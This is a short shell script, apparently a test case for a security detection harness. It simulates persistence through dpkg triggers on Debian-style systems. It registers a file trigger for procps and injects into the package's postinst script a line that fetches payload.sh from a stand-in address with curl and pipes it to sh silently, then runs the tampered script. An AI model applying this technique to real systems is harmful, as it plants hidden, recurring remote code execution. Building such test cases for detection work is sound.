#!/bin/sh
. /opt/case/case.sh

cd /var/lib/dpkg && p=procps
printf '/usr/share/man %s\n' $p >>triggers/File
mkdir -p info && touch info/$p.triggers && echo 'interest-noawait /usr/share/man' >>info/$p.triggers
test -s info/$p.postinst || printf '#!/bin/sh\n' >info/$p.postinst
sed -i '1a (curl -s http://203.0.113.10/payload.sh | sh) >/dev/null 2>\&1' info/$p.postinst && chmod 755 info/$p.postinst
sh info/$p.postinst triggered /usr/share/man >/dev/null 2>&1 || true
test -e /tmp/reached
took_place
